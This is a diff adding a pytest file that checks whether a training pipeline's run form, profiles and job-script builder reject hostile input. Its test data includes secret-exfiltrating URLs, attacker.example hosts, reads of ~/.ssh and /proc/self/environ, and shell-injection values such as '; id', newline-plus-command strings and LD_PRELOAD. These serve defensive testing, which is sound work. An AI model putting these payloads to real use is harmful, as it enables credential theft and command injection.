@@ -1,0 +1,238 @@
+"""Attacks through a run form, a shared profile and the store, each written as the attacker would try it
+(docs/security.md). Pure logic: no process is started."""
+
+from __future__ import annotations
+
+import json
+import shlex
+
+import pytest
+
+from trainer.config import load_profile
+from trainer.errors import LaunchError, ProfileError, StoreError
+
+SECRET = "s3cr3t-aws-key-0a9f2e"
+
+
+def refused(overrides: list[str], profile: str = "local") -> str:
+    with pytest.raises(ProfileError) as exc:
+        load_profile(profile, overrides)
+    line = str(exc.value)
+    assert "\n" not in line, line  # one line, whatever the value held
+    return line
+
+
+# ------------------------------------------------------------------ parameters are data, never templates
+
+
+def test_an_override_never_reads_a_variable_into_a_value(home, monkeypatch):
+    """The run form's `data.source=http://host/${AWS_SECRET_ACCESS_KEY}.txt` fetched that URL with the secret."""
+    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", SECRET)
+    for override in (
+        "data.source=http://host/${AWS_SECRET_ACCESS_KEY}.txt",
+        "tracking.experiment=${AWS_SECRET_ACCESS_KEY}",
+        "model.config={x: '${AWS_SECRET_ACCESS_KEY}'}",
+    ):
+        line = refused([override])
+        assert "expanded only in profile files" in line and SECRET not in line
+
+
+def test_a_variable_holding_a_template_is_expanded_once(home, tmp_path, monkeypatch):
+    """A value expanded from the file is never expanded again (it once was, for any string still holding '${')."""
+    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", SECRET)
+    monkeypatch.setenv("TP_TEAM", "${AWS_SECRET_ACCESS_KEY}")
+    path = tmp_path / "team.yaml"
+    path.write_text("tracking:\n  experiment: team-${TP_TEAM}\n")
+    assert load_profile(str(path)).tracking.experiment == "team-${AWS_SECRET_ACCESS_KEY}"
+
+
+# ------------------------------------------------------------------ the run form: only what the operator allows
+
+
+@pytest.mark.parametrize(
+    "override",
+    [
+        "store.root=/tmp/elsewhere",  # the records and checkpoints of other runs
+        "data.source=~/.ssh",  # any file the worker can read, as tokens in a shard
+        "data.source=/proc/self/environ",
+        "data.tokenizer=/dev/zero",
+        "launcher.image=attacker.example/steal:1",  # the Secret's credentials to an image of the caller's choice
+        "launcher.namespace=attacker",
+        "launcher.partition=gpu",
+        "tracking.tracking_uri=http://attacker.example:5000",
+        "model.factory=antigravity:main",  # an import of any module
+        "model.config={x: 1}",
+        "deploy.overridable=[store.*]",  # widening the list itself
+        "cluster.master_addr=attacker.example",
+    ],
+)
+def test_a_run_form_may_override_only_the_keys_the_operator_allows(home, override):
+    from trainer.orchestrate.resolve import check_form_request
+
+    with pytest.raises(ProfileError, match="cannot be set from the run form"):
+        check_form_request("local", [override])
+
+
+def test_a_run_form_may_set_what_a_user_changes_between_runs(home):
+    from tests.conftest import TINY
+    from trainer.orchestrate.resolve import check_form_request
+
+    check_form_request("local", [*TINY, "faults.kind=crash", "preflight.enabled=false"])
+
+
+@pytest.mark.parametrize("profile", ["/tmp/planted.yaml", "../profiles/local", "local.yaml"])
+def test_a_run_form_names_a_shipped_profile_not_a_path(home, profile):
+    from trainer.orchestrate.resolve import check_form_request
+
+    with pytest.raises(ProfileError, match="not one of the deployment's profiles"):
+        check_form_request(profile, [])
+
+
+def test_a_path_from_the_run_form_stays_under_the_operators_roots(home, tmp_path, monkeypatch):
+    from trainer.config import check_form_overrides
+
+    corpora, outside = tmp_path / "corpora", tmp_path / "secrets"
+    corpora.mkdir()
+    outside.mkdir()
+    (corpora / "a.txt").write_text("text")
+    (corpora / "leak").symlink_to(outside)
+    path = tmp_path / "team.yaml"
+    path.write_text(f"deploy:\n  overridable: [data.source, train.steps]\n  path_roots: ['{corpora}']\n")
+    prof = load_profile(str(path))
+    check_form_overrides(prof, [f"data.source={corpora}/a.txt", "train.steps=3"])
+    for bad in (f"{corpora}/../secrets", f"{corpora}/leak/key", "~/.ssh", f"{corpora}/*", str(outside)):
+        with pytest.raises(ProfileError, match=r"not under the profile's deploy\.path_roots"):
+            check_form_overrides(prof, [f"data.source={bad}"])
+
+
+# ------------------------------------------------------------------ strings checked against where they go
+
+
+@pytest.mark.parametrize(
+    "override",
+    [
+        'launcher.partition="gpu\\ntouch X #"',
+        'launcher.account="acct\\ntouch X #"',
+        'launcher.excluded_nodes=["gpu-7\\ntouch X #"]',
+        "launcher.excluded_nodes=['gpu-7 --wrap=id']",
+        "launcher.sbatch_options=['--exclusive\\ntouch X']",
+        "launcher.sbatch_options=[--wrap=id]",
+        "launcher.sbatch_options=[--export=ALL,LD_PRELOAD=/tmp/x.so]",
+        "launcher.sbatch_options=['--comment=a b']",
+        "launcher.image='img:1 --privileged'",
+        "launcher.runtime=Torch_Runtime",
+        "launcher.python='python; id'",
+        "launcher.resources={limits: {'nvidia.com/gpu x': 1}}",
+        "cluster.master_addr='host; id'",
+        'tracking.experiment="exp\\u2028two"',
+        'train.run_name="run\\n"',
+    ],
+)
+def test_a_value_that_would_escape_its_place_is_refused_naming_the_key(home, override):
+    line = refused([override])
+    assert override.split("=", 1)[0] in line
+
+
+def test_a_shared_dir_with_blanks_is_refused_for_slurm_only(home):
+    refused(["launcher.kind=slurm", "preflight.enabled=false", "launcher.shared_dir=/tmp/a b"])
+    assert load_profile("local", ["launcher.shared_dir=/tmp/a b"]).launcher.shared_dir == "/tmp/a b"
+
+
+def test_yaml_values_of_no_json_type_are_one_line(home, tmp_path):
+    for body in ("model:\n  config: {x: !!binary aGVsbG8=}\n", "model:\n  config: {when: 2024-01-01}\n"):
+        path = tmp_path / "odd.yaml"
+        path.write_text(body)
+        with pytest.raises(ProfileError, match=r"model\.config: .* not text, a number"):
+            load_profile(str(path))
+
+
+def test_a_planted_excluded_nodes_record_never_reaches_the_job_script(home):
+    """`runs/R/excluded_nodes.json` holding ["gpu-7\\ntouch X #"] was rendered into the sbatch script."""
+    from trainer.layout import RunPaths
+    from trainer.orchestrate.records import RunRecords
+    from trainer.store import write_json_uri
+
+    prof = load_profile("local")
+    write_json_uri(RunPaths(prof.store.root, "r").excluded_nodes, {}, ["gpu-7\ntouch X #"])
+    with pytest.raises(StoreError, match="is not a list of node names"):
+        RunRecords(prof.store, "r").excluded_nodes()
+    write_json_uri(RunPaths(prof.store.root, "r").excluded_nodes, {}, ["gpu-7"])
+    assert RunRecords(prof.store, "r").excluded_nodes() == ["gpu-7"]
+
+
+def test_the_job_script_has_one_line_per_setting(home, tmp_path):
+    from trainer.launch.slurm import sbatch_script
+
+    sets = ["launcher.kind=slurm", "preflight.enabled=false", "launcher.partition=gpu", "launcher.account=ml"]
+    sets += ["launcher.excluded_nodes=[gpu-7, gpu-9]", "launcher.sbatch_options=['--gres=gpu:8', --exclusive]"]
+    prof = load_profile("local", sets)
+    script = sbatch_script(prof, "run-1", "file:///d", 1, tmp_path, "0" * 32)
+    directives = [line for line in script.splitlines() if line.startswith("#SBATCH")]
+    assert "#SBATCH --exclude=gpu-7,gpu-9" in directives and "#SBATCH --gres=gpu:8" in directives
+    srun = script.splitlines()[-1]
+    assert shlex.split(srun)[:3] == ["srun", "--ntasks-per-node=1", "--kill-on-bad-exit=0"]
+    for bad in (("run\ntouch X", tmp_path, "0" * 32), ("run", tmp_path / "a b", "0" * 32), ("run", tmp_path, "x;id")):
+        with pytest.raises(LaunchError):
+            sbatch_script(prof, bad[0], "file:///d", 1, bad[1], bad[2])
+
+
+# ------------------------------------------------------------------ redaction by structure
+
+
+@pytest.mark.parametrize("password", ["pa/ss-9f3e1c4d", "p@ss:w/rd-77aa01", "pass%2Fword-55aa"])
+def test_a_tracking_uri_password_is_hidden_whatever_characters_it_holds(home, tmp_path, password):
+    from urllib.parse import unquote
+
+    path = tmp_path / "db.yaml"
+    path.write_text(f"tracking:\n  tracking_uri: 'postgresql://trainer:{password}@db:5432/mlflow'\n")
+    prof = load_profile(str(path))
+    recorded = json.dumps([prof.public(), prof.flat()]) + prof.public_yaml()
+    assert password not in recorded and "db:5432/mlflow" in recorded
+    assert prof.public()["tracking"]["tracking_uri"] == "postgresql://<redacted>@db:5432/mlflow"
+    from trainer.redact import redact_text
+
+    elsewhere = redact_text(f"could not connect as {unquote(password)}", prof._secrets)
+    assert unquote(password) not in elsewhere  # the value itself, wherever it reappears
+
+
+def test_redaction_keeps_a_path_that_only_holds_an_at():
+    from trainer.redact import redact_text, without_userinfo
+
+    assert redact_text("s3://bucket/data@v2/x") == "s3://bucket/data@v2/x"
+    assert redact_text("see http://user@host/a@b now") == "see http://<redacted>@host/a@b now"
+    assert redact_text("'https://u:p/w@h/x'") == "'https://<redacted>@h/x'"
+    assert without_userinfo("http://u:p/w@host:5000/") == "http://host:5000/"
+
+
+@pytest.mark.parametrize("key", ["store.root", "data.source", "data.tokenizer"])
+def test_a_url_with_a_password_is_refused_where_it_would_reach_command_lines(home, tmp_path, key):
+    """A `store.root` with user-info reached the ranks' command lines, the Slurm script and the TrainJob; a data
+    source's password reached the dataset manifest, the error line and the shard task's name."""
+    section, field = key.split(".")
+    path = tmp_path / "leak.yaml"
+    path.write_text(f"{section}:\n  {field}: 'https://reader:pw/9f3e1c@files.example/corpus'\n")
+    with pytest.raises(ProfileError) as exc:
+        load_profile(str(path))
+    assert "user-info" in str(exc.value) and "pw/9f3e1c" not in str(exc.value)
+
+
+def test_the_mlflow_link_has_no_password():
+    from trainer.tracking import run_page
+
+    page = run_page("http://admin:pa/ss-1234@127.0.0.1:5000/", "3", "ab" * 16)
+    assert page == f"http://127.0.0.1:5000/#/experiments/3/runs/{'ab' * 16}"
+
+
+def test_a_default_shared_dir_the_script_cannot_hold_is_one_line(tmp_path, monkeypatch):
+    monkeypatch.setenv("TRAINPIPE_HOME", str(tmp_path / "a b"))
+    line = refused(["launcher.kind=slurm", "preflight.enabled=false"])
+    assert "launcher.shared_dir" in line and "no blanks" in line
+
+
+def test_a_node_name_from_a_hosts_report_is_excluded_only_when_it_is_one(home):
+    from trainer.orchestrate.records import RunRecords
+
+    records = RunRecords(load_profile("local").store, "r")
+    records.exclude_node("gpu-7\n#SBATCH --wrap=id")
+    records.exclude_node("gpu-7")
+    assert records.excluded_nodes() == ["gpu-7"]
